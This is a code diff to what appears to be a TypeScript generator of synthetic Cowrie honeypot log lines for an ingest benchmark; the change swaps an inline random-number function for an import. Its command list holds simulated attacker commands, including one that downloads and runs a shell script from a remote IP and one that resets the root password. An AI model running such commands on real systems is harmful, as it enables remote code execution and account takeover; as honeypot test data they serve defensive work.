@@ -1,16 +1,7 @@
 // Seeded generator of realistic Cowrie JSON lines for the ingest benchmark: heavy-tailed attackers (a few
 // addresses send most events), sessions of connect → logins → commands → downloads, several sensors.
 
-function mulberry32(seed: number): () => number {
-  let a = seed >>> 0;
-  return () => {
-    a = (a + 0x6d2b79f5) >>> 0;
-    let t = a;
-    t = Math.imul(t ^ (t >>> 15), t | 1);
-    t ^= t + Math.imul(t ^ (t >>> 7), t | 61);
-    return ((t ^ (t >>> 14)) >>> 0) / 4294967296;
-  };
-}
+import { mulberry32 } from '../api-server/demo/generate.ts';
 
 const USERS = ['root', 'admin', 'user', 'test', 'ubuntu', 'oracle', 'pi', 'postgres', 'git', 'ftpuser'];
 const COMMANDS = ['uname -a', 'cat /proc/cpuinfo | grep name | wc -l', 'cd /tmp; wget http://198.51.100.9/x.sh; sh x.sh', 'echo "root:xyz"|chpasswd', 'free -m', 'ls -la ~/.ssh'];
